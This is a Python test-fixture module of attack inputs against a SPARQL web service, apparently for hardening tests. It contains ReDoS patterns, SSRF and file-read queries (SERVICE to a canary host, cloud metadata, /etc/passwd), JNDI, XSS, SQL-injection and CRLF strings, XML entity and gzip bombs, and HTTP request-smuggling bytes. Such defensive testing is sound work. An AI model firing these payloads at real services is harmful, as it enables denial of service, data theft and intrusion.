"""Attacks on the service at its HTTP door: what a stranger sends, by class.

``QUERIES`` go to ``/sparql`` as they are; ``REQUESTS`` are addresses, headers and bodies;
``BYTES`` are what no HTTP library would send. What each must not do is in ``test_attacks``.
"""

from __future__ import annotations

import gzip
from dataclasses import dataclass, field
from urllib.parse import quote

CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
TWO = "?a ?b ?c . ?d ?e ?f"
FORM = "application/x-www-form-urlencoded"


def many(text: str, count: int, between: str = " ") -> str:
    """The text over and over, ``#`` in it numbered."""
    return between.join(text.replace("#", str(number)) for number in range(count))


def nested(opening: str, count: int, inside: str, closing: str) -> str:
    return opening * count + inside + closing * count


def doubled(times: int, grow: str = "CONCAT(?x#,?x#)") -> str:
    """A string that grows from one BIND to the next."""
    steps = " ".join(f"BIND ({grow.replace('#', str(n))} AS ?x{n + 1})" for n in range(times))
    return f'SELECT (STRLEN(?x{times}) AS ?n) {{ BIND ("aaaaaaaa" AS ?x0) {steps} }}'


def matched(pattern: str, text: str = "a" * 60 + "!") -> str:
    return f'SELECT * {{ {TWO} FILTER REGEX(CONCAT("{text}", STR(?a)), "{pattern}") }}'


DEPTH = {
    "brackets to the cap": "SELECT (" + nested("(", 45, "1", ")") + " AS ?x) {}",
    "brackets past the cap": "SELECT (" + nested("(", 49, "1", ")") + " AS ?x) {}",
    "brackets by thousands": "SELECT (" + nested("(", 15_000, "1", ")") + " AS ?x) {}",
    "brackets never closed": "SELECT * { " + "{" * 30_000,
    "brackets only closed": "SELECT * { " + "}" * 30_000,
    "calls": "SELECT (" + nested("STR(", 960, "1", ")") + " AS ?x) {}",
    "calls to the cap": "SELECT (" + nested("STR(", 45, "1", ")") + " AS ?x) {}",
    "exists": "ASK { " + nested("FILTER EXISTS { ", 896, "?s ?p ?o", " }") + " }",
    "exists to the cap": "ASK { " + nested("?s ?p ?o FILTER EXISTS { ", 40, "?s ?p ?o", " }") + " }",
    "not exists": "ASK { " + nested("?s ?p ?o FILTER NOT EXISTS { ", 46, "?s ?p ?o", "}") + " }",
    "optionals": "SELECT * { " + nested("?s ?p ?o OPTIONAL { ", 46, "?o ?q ?r", " }") + " }",
    "sub-selects": "SELECT * { " + nested("{ SELECT * { ", 23, CROSS, " } }") + " }",
    "minus": "SELECT * { ?s ?p ?o " + nested("MINUS { ?s ?p ?o ", 45, "", " }") + " }",
    "unions": "SELECT * { " + nested("{ ?s ?p ?o } UNION { ", 45, "?s ?p ?o", " }") + " }",
    "nots": "ASK { FILTER (" + "!" * 30_000 + "true) }",
    "nots to the cap": "ASK { FILTER (" + "!" * 390 + "true) }",
    "signs": "SELECT (1" + "- -1" * 190 + " AS ?x) {}",
    "sums": "SELECT (1" + "+1" * 7168 + " AS ?x) {}",
    "lists": "ASK { ?s ?p " + nested("(", 46, "1", ")") + " }",
    "blank nodes": "ASK { ?s ?p " + nested("[ ?q ", 46, "1", "]") + " }",
    "triple terms": "ASK { ?s ?p " + nested("<<( <a:a> <a:b> ", 46, "1", ")>>") + " }",
    "triple terms by thousands": "ASK { ?s ?p " + nested("<<( <a:a> <a:b> ", 1_500, "1", ")>>") + " }",
    "path groups": "ASK { ?s " + nested("(", 46, "<a:b>", ")*") + " ?o }",
    "ifs": "SELECT (" + nested("IF(true, ", 46, "1", ", 2)") + " AS ?x) {}",
}  # fmt: skip
LENGTH = {
    "spaces": "ASK {" + " " * 40_000 + "}",
    "a comment": "ASK { # " + "x" * 40_000 + "\n}",
    "a string": 'ASK { ?s ?p "' + "x" * 32_000 + '" }',
    "a string never closed": 'ASK { ?s ?p "' + "x" * 32_000,
    "a long string never closed": 'ASK { ?s ?p """' + '"" ' * 9_000,
    "an IRI": "ASK { ?s ?p <http://e/" + "x" * 32_000 + "> }",
    "an IRI never closed": "ASK { ?s ?p " + "<" * 32_000,
    "a variable": "SELECT ?" + "x" * 32_000 + " {}",
    "prefixes": many("PREFIX p#: <http://e/#>", 900) + " ASK {}",
    "values": "SELECT * { VALUES ?x { " + many("<http://e/#>", 1_800) + " } ?x ?p ?o }",
    "a list to be in": "SELECT * { ?s ?p ?o FILTER (?o IN (" + many("'#'", 390, ",") + ")) }",
    "arguments": "SELECT (CONCAT(" + many("'#'", 390, ",") + ") AS ?x) {}",
    "columns": "SELECT " + many("(# AS ?x#)", 390) + " {}",
    "described things": "DESCRIBE " + many("<http://e/#>", 390),
}
PLANS = {
    "patterns without a bond": "SELECT * { " + many("?a# ?b# ?c# .", 64) + " } LIMIT 1",
    "a chain": "SELECT (COUNT(*) AS ?n) { " + many("?x# ?p# ?x1# .", 60) + " }",
    "a star": "SELECT (COUNT(*) AS ?n) { " + many("?x ?p# ?y# .", 40) + " }",
    "a ring": "SELECT (COUNT(*) AS ?n) { ?a ?p ?b . ?b ?q ?c . ?c ?r ?d . ?d ?s ?a }",
    "unions": "SELECT * { " + many("{ ?s ?p ?o }", 60, " UNION ") + " } ORDER BY ?o",
    "unions joined": "SELECT * { " + many("{ ?s ?p ?o } UNION { ?o ?p ?s }", 30, " ") + " }",
    "optionals": "SELECT * { ?s ?p ?o " + many("OPTIONAL { ?s ?p# ?o# }", 60) + " }",
    "minuses": "SELECT * { ?s ?p ?o " + many("MINUS { ?s ?p# ?o# }", 60) + " }",
    "ors": "SELECT * { ?s ?p ?o FILTER (" + many("?o = '#'", 195, " || ") + ") }",
    "equalities": "SELECT * { " + CROSS + " FILTER (" + many("?a = ?d", 99, " && ") + ") }",
    "groups": "SELECT * { " + many("{ ?a# ?b# ?c# }", 60) + " } LIMIT 1",
    "exists on each": "SELECT * { " + TWO + " FILTER EXISTS { ?a ?q ?f . ?f ?r ?a . ?x ?y ?z } }",
}
JOINS = {
    "three freely": f"SELECT (COUNT(*) AS ?n) {{ {CROSS} }}",
    "three that never meet": f"ASK {{ {CROSS} FILTER (?a = 'never') }}",
    "two, distinct": f"SELECT (COUNT(DISTINCT ?x) AS ?n) {{ {TWO} BIND (CONCAT(STR(?a),STR(?f)) AS ?x) }}",
    "two, grouped": f"SELECT ?a ?f (COUNT(*) AS ?n) {{ {TWO} }} GROUP BY ?a ?f",
    "two, built": f"CONSTRUCT {{ ?a ?e ?f }} WHERE {{ {TWO} }}",
    "two, all of it": f"SELECT * {{ {TWO} }}",
    "two, by offset": f"SELECT * {{ {TWO} }} OFFSET 1000000000 LIMIT 1",
    "graphs": "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?a ?b ?c } GRAPH ?h { ?d ?e ?f } GRAPH ?i { ?j ?k ?l } }",
    "sorted": f"SELECT * {{ {TWO} }} ORDER BY STR(?c) STR(?f) LIMIT 5",
    "sorted by digest": f"SELECT * {{ {TWO} }} ORDER BY SHA512(CONCAT(STR(?a),STR(?f))) LIMIT 5",
    "sorted at random": f"SELECT * {{ {TWO} }} ORDER BY RAND() LIMIT 5",
    "sorted within": f"SELECT * {{ {{ SELECT * {{ {TWO} }} ORDER BY ?f }} }} LIMIT 1",
}  # fmt: skip
STRINGS = {
    "doubled": doubled(32),
    "doubled further": doubled(60),
    "grown by replacing": doubled(9, "REPLACE(?x#, 'a', 'aaaaaaaaaaaaaaaaaaaaaaaa')"),
    "grown by escapes": doubled(24, "ENCODE_FOR_URI(CONCAT('%', ?x#, ?x#))"),
    "all in one": f"SELECT (GROUP_CONCAT(CONCAT(STR(?a),STR(?f))) AS ?x) {{ {TWO} }}",
    "one a row": f"SELECT (CONCAT({many('STR(?c)', 300, ',')}) AS ?x) {{ ?a ?b ?c }}",
    "digests": f"SELECT (MAX(SHA512(CONCAT(STR(?c),STR(?f)))) AS ?x) {{ {TWO} }}",
    "parts": f"SELECT (MAX(SUBSTR(STR(?c), 2147483647, 2147483647)) AS ?x) {{ {TWO} }}",
    "whole numbers": f"SELECT ({many('9999999999', 190, '*')} AS ?x) {{}}",
    "fractions": f"SELECT ({many('0.000000001', 190, '/')} AS ?x) {{}}",
    "exponents": "SELECT (1e308*1e308 AS ?x) (-1/0 AS ?y) (1e-999999999 AS ?z) {}",
    "dates": "SELECT (YEAR('999999999999-01-01T00:00:00Z'^^<http://www.w3.org/2001/XMLSchema#dateTime>) AS ?x) {}",
}  # fmt: skip
REGULAR = {
    "nested repeats": matched("^(a+)+$"),
    "alternatives": matched("^(a|aa)+$"),
    "optional letters": matched("^" + "a?" * 60 + "a" * 60 + "$"),
    "counted counts": matched("((a{1000}){1000}){1000}"),
    "a large count": matched("a{4000000000}"),
    "a large class": matched("[\\\\p{L}\\\\p{N}]{900}"),
    "many groups": matched("(" * 250 + "a" + ")" * 250),
    "a back reference": matched("(a+)\\\\1+$"),
    "look-around": matched("(?=a+$)a"),
    "not a pattern": matched("(((["),
    "replacing": f"SELECT (MAX(REPLACE(STR(?c), '(.*)*', '$0$0$0')) AS ?x) {{ {TWO} }}",
}
PATHS = {
    "everything, any way": "SELECT (COUNT(*) AS ?n) { ?s (<a:a>|!<a:a>)* ?o }",
    "both ways": "SELECT (COUNT(*) AS ?n) { ?s (!<a:a>|^!<a:a>)+ ?o }",
    "stars in stars": "SELECT * { ?s ((((!<a:a>)*)*)*)* ?o } ORDER BY ?o",
    "long": "SELECT * { ?s " + many("!<a:a>", 60, "/") + " ?o }",
    "wide": "SELECT * { ?s (" + many("<a:#>", 60, "|") + ")* ?o }",
    "longer than the cap": "SELECT * { ?s " + many("<a:#>", 300, "/") + " ?o }",
    "maybes": "SELECT * { ?s " + many("(!<a:a>)?", 30, "/") + " ?o }",
    "two at once": "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>)* ?b . ?c (!<a:b>)* ?d }",
}
UPDATES = {
    "insert": "INSERT DATA { <a:a> <a:b> <a:c> }",
    "clear": "CLEAR ALL",
    "load": "LOAD <http://CANARY/load>",
    "load a file": "LOAD <file:///etc/passwd>",
    "after a query": "ASK {} ; CLEAR ALL",
    "hidden by a comment": "# ASK {}\nDROP ALL",
}
OUTWARD = {
    "service": "SELECT * { SERVICE <http://CANARY/a> { ?s ?p ?o } }",
    "service, silent": "SELECT * { SERVICE SILENT <http://CANARY/b> { ?s ?p ?o } }",
    "service by variable": "SELECT * { BIND (<http://CANARY/c> AS ?u) SERVICE ?u { ?s ?p ?o } }",
    "service run together": "SELECT * {SERVICE<http://CANARY/d>{?s ?p ?o}}",
    "service in small letters": "select * { service <http://CANARY/e> { ?s ?p ?o } }",
    "service by escapes": "SELECT * { S\\u0045RVICE <http://CANARY/f> { ?s ?p ?o } }",
    "service by prefix": "PREFIX c: <http://CANARY/> SELECT * { SERVICE c:g { ?s ?p ?o } }",
    "service in exists": "ASK { ?s ?p ?o FILTER EXISTS { SERVICE <http://CANARY/h> { ?s ?p ?o } } }",
    "service in a sub-select": "SELECT * { { SELECT * { SERVICE <http://CANARY/i> {} } } }",
    "service to a file": "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
    "service to metadata": "SELECT * { SERVICE <http://169.254.169.254/latest/> { ?s ?p ?o } }",
    "from": "SELECT * FROM <http://CANARY/j> { ?s ?p ?o }",
    "from named": "SELECT * FROM NAMED <http://CANARY/k> { GRAPH ?g { ?s ?p ?o } }",
    "from by base": "BASE <http://CANARY/> SELECT * FROM <l> { ?s ?p ?o }",
    "from by escapes": "SELECT * FROM <http\\u003A//CANARY/m> { ?s ?p ?o }",
    "from a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "graph": "SELECT * { GRAPH <http://CANARY/n> { ?s ?p ?o } }",
    "describe": "DESCRIBE <http://CANARY/o>",
}
TEXT = {
    "a null": "ASK { ?s ?p '\0' }",
    "nulls": "\0" * 1000,
    "a byte order mark": "\ufeffASK {}",
    "right to left": "ASK { ?s ?p '\u202e' } # \u202e",
    "private letters": "SELECT ?\U0010fffd {}",
    "nothing": "",
    "only a comment": "# nothing",
    "another language": "SELECT * FROM users; DROP TABLE users; --",
    "markup": "<script>alert(1)</script>",
    "a template": "{{ 7*7 }} {% for x in y %}",
}
QUERIES: dict[str, str] = {
    f"{family}: {name}": query
    for family, held in {
        "depth": DEPTH, "length": LENGTH, "plan": PLANS, "join": JOINS, "string": STRINGS,
        "regex": REGULAR, "path": PATHS, "update": UPDATES, "outward": OUTWARD, "text": TEXT,
    }.items()
    for name, query in held.items()
}  # fmt: skip


@dataclass(frozen=True)
class Request:
    """One request through an HTTP library."""

    path: str
    method: str = "GET"
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


def post(body: bytes | str, kind: str, **headers: str) -> Request:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    data = body.encode() if isinstance(body, str) else body
    return Request("/sparql", "POST", data, {"Content-Type": kind} | named)


def page(path: str, **headers: str) -> Request:
    return Request(path, headers={name.replace("_", "-"): value for name, value in headers.items()})


ASK = "/sparql?query=ASK%20%7B%7D"
QUESTION = "/questions/enablers-in-successful-partnerships"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
) + "]><x>&j;</x>"  # fmt: skip
INJECTED = (
    '"', "'", "\\", "}", "} UNION { ?s ?p ?o", "UNDEF } #", "<http://e/> } #", "> } SELECT * { ?s",
    "mandated,structural", "\r\nX-Evil: 1", "%", "\0", "é" * 300, "../../etc/passwd", "{nature}",
    "{{ 7*7 }}", "${jndi:ldap://CANARY/p}", "<script>alert(1)</script>", "any' OR '1'='1", "\U0001d54f",
)  # fmt: skip
REQUESTS: dict[str, Request] = {
    **{f"parameter: {value[:20]!r}": page(f"{QUESTION}.json?nature={quote(value, safe='')}")
       for value in INJECTED},
    **{f"search: {value[:20]!r}": page(f"/search?q={quote(value, safe='')}")
       for value in INJECTED[:6]},
    "parameter: a million letters": page(f"{QUESTION}?nature={'x' * 100_000}"),
    "parameter: the same often": page(f"{QUESTION}?" + many("nature=any", 2000, "&")),
    "parameter: a large number": page(f"{QUESTION}?why=" + "9" * 5000),
    "parameter: a number below none": page(f"{QUESTION}?why=-1"),
    "parameter: a number in other digits": page(f"{QUESTION}?why=" + quote("٣")),
    "parameter: no number": page(f"{QUESTION}?why=1e9"),
    "parameter: every page": page(f"{QUESTION}?page=99999999"),
    "slug: upwards": page("/questions/..%2f..%2f..%2fetc%2fpasswd.json"),
    "slug: a file": page("/questions/%00.json"),
    "slug: markup": page("/questions/<script>alert(1)</script>", Accept="text/html"),
    "file: upwards": page("/assets/../../src/partnering/errors.py"),
    "file: upwards, escaped": page("/assets/%2e%2e/%2e%2e/pyproject.toml"),
    "file: absolute": page("/assets//etc/passwd"),
    "file: backslashes": page("/assets/..%5c..%5cpyproject.toml"),
    "path: long": page("/" + "x" * 60_000),
    "path: deep": page("/a" * 20_000),
    "path: odd bytes": page("/%ff%fe/%c0%ae%c0%ae/"),
    "path: two slashes": page("//evil.example/%2f.."),
    "redirect: another line": page("/sparql?query=ASK%20%7B%7D%0d%0aX-Evil:%201", Accept="text/html"),
    "format: another line": page(ASK + "&format=json%0d%0aX-Evil:%201"),
    "format: long": page(ASK + "&format=" + "x" * 50_000),
    "format: upwards": page(ASK + "&format=../../etc/passwd"),
    "dataset: outward": page(ASK + "&default-graph-uri=http://CANARY/q"),
    "dataset: outward, named": page(ASK + "&named-graph-uri=http://CANARY/r"),
    "dataset: a file": page(ASK + "&default-graph-uri=file:///etc/passwd"),
    "dataset: no IRI": page(ASK + "&default-graph-uri=%3E%20%7D"),
    "dataset: many": page(ASK + "&default-graph-uri=a:a" * 99),
    "fields: thousands": page("/sparql?" + many("a#=1", 5000, "&")),
    "fields: two queries": page(ASK + "&query=CLEAR+ALL"),
    "fields: an update": page("/sparql?update=CLEAR+ALL"),
    "text: half a character": page("/sparql?query=ASK%20%7B%7D%20%23%ED%A0%80"),
    "text: too long a way to write": page("/sparql?query=ASK%20%7B%7D%20%23%C0%AF"),
    "text: UTF-16": post("ASK {}".encode("utf-16"), "application/sparql-query"),
    "text: UTF-7": post("ASK {}", "application/sparql-query; charset=utf-7"),
    "body: too large": post("query=" + "x" * 2_000_000, FORM),
    "body: large in escapes": post("query=" + "%20" * 60_000, FORM),
    "body: gzip": post(gzip.compress(b"query=ASK+%7B%7D"), FORM, Content_Encoding="gzip"),
    "body: a gzip bomb": post(gzip.compress(b"\0" * 50_000_000), FORM, Content_Encoding="gzip"),
    "body: deflate": post(b"x\x9c", FORM, Content_Encoding="deflate"),
    "body: gzip twice": post(gzip.compress(gzip.compress(b"x")), FORM, Content_Encoding="gzip, gzip"),
    "body: of parts": post(b"--x\r\n" * 20_000 + b"--x--", "multipart/form-data; boundary=x"),
    "body: parts without a mark": post(b"x" * 9999, "multipart/form-data"),
    "body: entities": post(ENTITIES, "application/rdf+xml"),
    "body: entities as a query": post(ENTITIES, "application/sparql-query"),
    "body: JSON": post("[" * 50_000, "application/json"),
    "body: JSON-LD": post('{"@context":"http://CANARY/s"}', "application/ld+json"),
    "body: an update": post("LOAD <http://CANARY/t>", "application/sparql-update"),
    "body: on a page": Request("/cases", "POST", b"x" * 1000, {"Content-Type": FORM}),
    "body: on a GET": Request(ASK, "GET", b"query=CLEAR+ALL", {"Content-Type": FORM}),
    "method: PUT": Request("/sparql", "PUT", b"x"),
    "method: TRACE": Request("/sparql", "TRACE"),
    "method: unknown": Request("/sparql", "BREW"),
    "method: said in a header": page(ASK, X_HTTP_Method_Override="DELETE"),
    "header: another host": page("/", Host="evil.example"),
    "header: a host with an end": page("/", Host="evil.example/../"),
    "header: forwarded": page("/", X_Forwarded_Host="evil.example", X_Forwarded_Proto="https",
                              Forwarded="for=1.2.3.4;host=evil.example"),
    "header: forwarded for whom": page(ASK, X_Forwarded_For="', DROP"),
    "header: another path": page("/", X_Original_URL="/etc/passwd", X_Rewrite_URL="/admin"),
    "header: accepts a lot": page(ASK, Accept=",".join(f"a/b{n};q=0.{n}" for n in range(5000))),
    "header: accepts no number": page(ASK, Accept="text/csv;q=nan, */*;q=-1, x/y;q=1e999"),
    "header: accepts nonsense": page(ASK, Accept=";;;,,,===///"),
    "header: long": page(ASK, X_Long="x" * 100_000),
    "header: too long": page(ASK, X_Long="x" * 200_000),
    "header: many": page(ASK, **{f"X_{n}": "x" for n in range(90)}),
    "header: ranges": page("/assets/site.css", Range="bytes=" + many("0-1", 3000, ",")),
    "header: a range below none": page("/assets/site.css", Range="bytes=-99999999999999999999"),
    "header: tags": page("/cases", If_None_Match=",".join(f'"{n}"' for n in range(5000))),
    "header: a date": page("/assets/site.css", If_Modified_Since="Mon, 99 Foo 99999 99:99:99 GMT"),
    "header: a cookie": page("/", Cookie="a=" + "x" * 50_000),
    "header: a secret": page("/", Authorization="Basic " + "A" * 5000),
    "header: upgrade": page(ASK, Connection="Upgrade, HTTP2-Settings", Upgrade="h2c"),
    "header: expects": page(ASK, Expect="100-continue"),
}  # fmt: skip

_HEAD = b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
_GET = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
_SMUGGLED = b"GET /evil HTTP/1.1\r\nHost: x\r\n\r\n"
BYTES: dict[str, bytes] = {
    "two lengths": _HEAD + b"Content-Length: 6\r\nContent-Length: 0\r\n\r\nASK {}" + _SMUGGLED,
    "two lengths in one": _HEAD + b"Content-Length: 6, 6\r\n\r\nASK {}",
    "length below none": _HEAD + b"Content-Length: -6\r\n\r\nASK {}",
    "length with a sign": _HEAD + b"Content-Length: +6\r\n\r\nASK {}",
    "length in other digits": _HEAD + "Content-Length: ٦\r\n\r\nASK {}".encode(),
    "length in hexadecimal": _HEAD + b"Content-Length: 0x6\r\n\r\nASK {}",
    "length past counting": _HEAD + b"Content-Length: " + b"9" * 400 + b"\r\n\r\nASK {}",
    "length and chunks": _HEAD + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    "chunks": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n",
    "chunks, misspelt": _HEAD + b"Transfer-Encoding: xchunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n",
    "chunks, then plain": _HEAD + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "chunks, by a tab": _HEAD + b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
    "chunks, before the colon": _HEAD + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "chunks without end": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 9000,
    "a chunk past counting": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 400 + b"\r\n",
    "a shorter body, then another request": _HEAD + b"Content-Length: 6\r\n\r\nASK {}" + _SMUGGLED,
    "line ends alone": _GET.replace(b"\r\n", b"\n") + b"\n",
    "carriage returns alone": _GET.replace(b"\r\n", b"\r") + b"\r",
    "a folded header": _GET + b"X-A: 1\r\n folded\r\n\r\n",
    "a header without a name": _GET + b": x\r\n\r\n",
    "a header without a colon": _GET + b"nothing\r\n\r\n",
    "a null in a header": _GET + b"X-A: a\0b\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "two hosts": _GET + b"Host: evil\r\n\r\n",
    "a whole address": b"GET http://CANARY/u HTTP/1.1\r\nHost: x\r\n\r\n",
    "a tunnel": b"CONNECT CANARY HTTP/1.1\r\nHost: x\r\n\r\n",
    "HTTP/0.9": b"GET /healthz\r\n\r\n",
    "HTTP/9.9": b"GET /healthz HTTP/9.9\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "no path": b"GET  HTTP/1.1\r\nHost: x\r\n\r\n",
    "a null in the path": b"GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n",
    "spaces in the path": b"GET / / HTTP/1.1\r\nHost: x\r\n\r\n",
    "a line without end": b"GET /" + b"x" * 300_000,
    "headers without end": _GET + b"X: y\r\n" * 30_000,
    "empty lines": b"\r\n" * 50_000,
    "nulls": b"\0" * 50_000,
    "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500,
    "another protocol": b"SSH-2.0-x\r\n\r\n",
    "a hundred at once": (_GET + b"\r\n") * 100,
}  # fmt: skip
